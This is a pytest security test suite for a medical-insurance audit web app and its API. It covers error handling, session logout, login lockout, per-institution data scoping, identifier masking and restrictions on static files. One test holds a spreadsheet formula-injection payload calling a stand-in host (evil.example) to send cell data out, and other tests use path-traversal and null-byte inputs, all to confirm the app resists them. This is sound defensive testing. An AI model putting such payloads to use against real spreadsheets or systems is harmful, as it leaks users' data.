"""Web app and API under hostile or broken input (from a security review): 4xx in Chinese, never a 500;
logging out ends the session on the server; parallel password guesses all count; Excel text stays text;
scoped users see their scope's figures on rule pages; nothing per-user is cached."""

from __future__ import annotations

import base64
import io
import json
import threading

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from .conftest import PASSWORD, csrf_from, login


@pytest.fixture
def client(app):
    with TestClient(app) as c:
        yield c


def api_login(client, username: str) -> None:
    assert client.post("/api/v1/session", json={"username": username, "password": PASSWORD}).status_code == 200


def _cursor(value) -> str:
    return base64.urlsafe_b64encode(json.dumps(["amount_desc", value, "x"]).encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "params",
    [
        {"sev_deg": "99999999999999999999999"},
        {"sev_deg": "7"},
        {"amount_min": "1e400"},
        {"amount_max": "-99999999999999999999"},
        {"after": _cursor([1, 2])},
        {"after": _cursor(10**30)},
        {"dept_code": "A\x00B"},
    ],
)
def test_malformed_filters_are_4xx_in_chinese(client, users, params):
    api_login(client, users["institution"])
    paths = ["/api/v1/runs/latest/flags", "/runs/latest/flags"]
    if "after" not in params:  # the export starts at the top whatever the cursor
        paths.append("/api/v1/runs/latest/flags.xlsx")
    for path in paths:
        r = client.get(path, params=params)
        if path.startswith("/api/"):
            assert 400 <= r.status_code < 500, (path, params, r.status_code, r.text[:300])
            assert "Input should" not in r.text and "Traceback" not in r.text
        else:  # the page shows what is wrong
            assert r.status_code in (200, 400), (path, params, r.status_code)


def test_web_filters_with_nan_or_control_characters_do_not_break_pages_or_exports(client, users):
    login(client, users["auditor"])
    r = client.get("/runs/latest/flags", params={"amount_min": "NaN", "amount_max": "Infinity"})
    assert r.status_code == 200 and "金额超出范围" in r.text
    r = client.get("/runs/latest/flags.xlsx", params={"dept_code": "A\x00", "amount_min": "NaN"})
    assert r.status_code == 200


def test_validation_errors_are_chinese_and_do_not_echo_the_body(client):
    r = client.post("/api/v1/session", content='{"username":"x","password":"s3cret-pass"}', headers={"content-type": "text/plain"})
    assert r.status_code == 422 and "s3cret-pass" not in r.text
    r = client.get("/api/v1/runs/latest/flags", params={"limit": 5000})
    assert r.status_code in (401, 422)


def test_limit_out_of_range_message_is_chinese(client, users):
    api_login(client, users["auditor"])
    r = client.get("/api/v1/runs/latest/flags", params={"limit": 5000})
    assert r.status_code == 422 and r.json()["detail"][0]["msg"] == "应不大于 1000", r.text
    assert "input" not in r.json()["detail"][0]


def test_excel_filter_values_are_text_not_formulas(client, users):
    login(client, users["auditor"])
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
    content = client.get("/runs/latest/flags.xlsx", params={"dept_code": formula}).content
    wb = load_workbook(io.BytesIO(content))
    cells = [c for row in wb["筛选条件"].iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)


def test_logging_out_ends_the_session_on_the_server(client, app, users):
    api_login(client, users["auditor"])
    cookie = client.cookies.get("fg_session") or next(iter(client.cookies.values()))
    name = next(iter(client.cookies.keys()))
    assert client.delete("/api/v1/session").status_code == 204
    with TestClient(app) as replay:
        replay.cookies.set(name, cookie)
        assert replay.get("/api/v1/session").status_code == 401
    # the web log-out too
    login(client, users["auditor"])
    html = client.get("/runs/latest/").text
    cookie = client.cookies.get(name)
    client.post("/logout", data={"csrf_token": csrf_from(html)})
    with TestClient(app) as replay:
        replay.cookies.set(name, cookie)
        assert replay.get("/api/v1/session").status_code == 401


def test_parallel_password_guesses_all_count(app, app_services):
    from fundguard.workspace import Role

    app_services.users.create("guessme", PASSWORD, Role.AUDITOR)

    def guess():
        with TestClient(app) as c:
            c.post("/api/v1/session", json={"username": "guessme", "password": "wrong-wrong-wrong"})

    threads = [threading.Thread(target=guess) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    with TestClient(app) as c:  # locked now, even with the right password
        assert c.post("/api/v1/session", json={"username": "guessme", "password": PASSWORD}).status_code == 401
    actions = [a for _, u, a, _ in app_services.users.access_log(200) if u == "guessme"]
    assert actions.count("login_failed") == 8 and "locked" in actions


def test_rule_page_shows_the_callers_own_figures(client, users, app_services):
    run = app_services.workspace.latest()
    from fundguard.workspace import Scope

    scoped = {r["key"]: r for r in run.index.breakdown("rule_id", Scope(fixmedins_code=users["own_org"]))}
    whole = {r["id"]: r for r in run.info["rules"]}
    rule_id = next(k for k, v in whole.items() if v.get("flags") and (scoped.get(k) or {}).get("flags", 0) != v["flags"])
    login(client, users["institution"])
    html = client.get(f"/rules/{rule_id}").text
    assert f"{(scoped.get(rule_id) or {}).get('flags', 0)} 条疑点" in html
    assert f">{whole[rule_id]['flags']} 条疑点" not in html


def test_pages_are_not_cached(client, users):
    login(client, users["auditor"])
    for path in ("/runs", "/rules", "/login"):
        assert client.get(path).headers.get("cache-control") == "no-store", path
    assert client.get("/static/app.css").headers.get("cache-control") != "no-store"


def test_an_institution_does_not_see_another_institutions_encounter_in_a_shared_finding(app, app_services):
    from fundguard.workspace import Role, Scope
    from fundguard.workspace.flagindex import FlagFilter

    run = app_services.workspace.latest()
    ix = run.index
    cross = None
    for flag in ix.iter_flags(FlagFilter(), Scope()):
        full = ix.get(flag["flag_id"], Scope())
        orgs = {e["fixmedins_code"] for e in full["encounters"]}
        if len(orgs) > 1 and full["fixmedins_code"]:
            cross = full
            break
    assert cross is not None, "the synthetic audit should have a finding over two institutions' encounters (D03/D07)"
    own = cross["fixmedins_code"]
    foreign = {e["mdtrt_id"] for e in cross["encounters"] if e["fixmedins_code"] != own}
    app_services.users.create("inst_cross", PASSWORD, Role.INSTITUTION, fixmedins_code=own)
    with TestClient(app) as c:
        api_login(c, "inst_cross")
        got = c.get(f"/api/v1/runs/{run.run_id}/flags/{cross['flag_id']}").json()
    assert {e["fixmedins_code"] for e in got["encounters"]} == {own}
    seen = {d["mdtrt_id"] for d in got["diagnoses"]} | {f["mdtrt_id"] for f in got["fee_lines"] + got["encounter_lines"]}
    assert seen and not seen & foreign


def test_masked_flags_carry_no_whole_identifier_anywhere(client, users, app_services):
    from fundguard.workspace import Scope
    from fundguard.workspace.flagindex import FlagFilter

    run = app_services.workspace.latest()
    ix = run.index
    ids: set[str] = set()
    flags = list(ix.iter_flags(FlagFilter(), Scope()))
    for f in flags:
        full = ix.get(f["flag_id"], Scope())
        ids |= {x for x in (full["psn_no"], full["mdtrt_id"], full["setl_id"], *full["mdtrt_ids"]) if x}
    api_login(client, users["admin"])  # the admin sees identifiers masked
    listing = client.get("/api/v1/runs/latest/flags", params={"limit": 1000}).text
    details = [client.get(f"/api/v1/runs/latest/flags/{f['flag_id']}").text for f in flags[:60]]
    for text in (listing, *details):
        leaked = [i for i in ids if i in text]  # synthetic ids are long (P00020179): no accidental match
        assert not leaked, leaked[:5]
    wb = load_workbook(io.BytesIO(client.get("/api/v1/runs/latest/flags.xlsx").content), read_only=True)
    messages = " ".join(str(r[-1]) for r in wb["疑点"].iter_rows(min_row=2, values_only=True))
    assert not [i for i in ids if i in messages]


def test_summary_refuses_filters_it_cannot_apply_and_applies_region(client, users, app_services):
    api_login(client, users["auditor"])
    r = client.get("/api/v1/runs/latest/summary", params={"rule_id": "A01"})
    assert r.status_code == 422 and "rule_id" in r.json()["detail"]
    whole = client.get("/api/v1/runs/latest/summary").json()["totals"]["flags"]
    region = client.get("/api/v1/runs/latest/summary").json()["by_region"][0]["key"]
    in_region = client.get("/api/v1/runs/latest/summary", params={"admdvs": region}).json()["totals"]["flags"]
    listed = client.get("/api/v1/runs/latest/flags", params={"admdvs": region, "limit": 1}).json()["total"]
    assert 0 < in_region == listed < whole


@pytest.mark.parametrize("path", [
    "/static/__init__.py",
    "/static/vendor/__init__.py",
    "/static/vendor/chartjs/__init__.py",
    "/static/vendor/chartjs/VERSION.md",
    "/static/vendor/chartjs/../../static/__init__.py",
    "/static/",
    "/static/vendor/",
])
def test_static_serves_no_python_package_or_other_non_asset_file(client, path):
    r = client.get(path)
    assert r.status_code == 404 and "__init__" not in r.text and "Chart.js" not in r.text


def test_static_assets_keep_their_caching_headers(client):
    for path, kind in (("/static/app.css", "text/css"), ("/static/app.js", "javascript"),
                       ("/static/vendor/chartjs/chart.umd.min.js", "javascript")):
        r = client.get(path)
        assert r.status_code == 200 and kind in r.headers["content-type"], path
        assert r.headers["etag"] and r.headers["last-modified"] and r.headers.get("cache-control") != "no-store"
        again = client.get(path, headers={"If-None-Match": r.headers["etag"]})
        assert again.status_code == 304, path


def test_static_files_serve_asset_types_only(tmp_path):
    """Every asset kind the folder may hold is served; a Python file, a note, a hidden file and __pycache__
    are not (over a folder with one of each, mounted as the web app mounts its own)."""
    from starlette.applications import Starlette
    from starlette.routing import Mount

    from fundguard.web.pages import ASSET_SUFFIXES, AssetFiles

    served = [f"asset{suffix}" for suffix in sorted(ASSET_SUFFIXES)] + ["fonts/Sans.WOFF2"]
    hidden = ["tool.py", "notes.md", "data.json", "page.html", "Makefile", ".secret.css", ".git/x.js",
              "__pycache__/app.cpython-311.pyc", "__pycache__/x.js"]
    for name in served + hidden:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(b"x")
    app = Starlette(routes=[Mount("/static", AssetFiles(directory=str(tmp_path)))])
    with TestClient(app) as c:
        for name in served:
            assert c.get(f"/static/{name}").status_code == 200, name
        for name in hidden:
            assert c.get(f"/static/{name}").status_code == 404, name
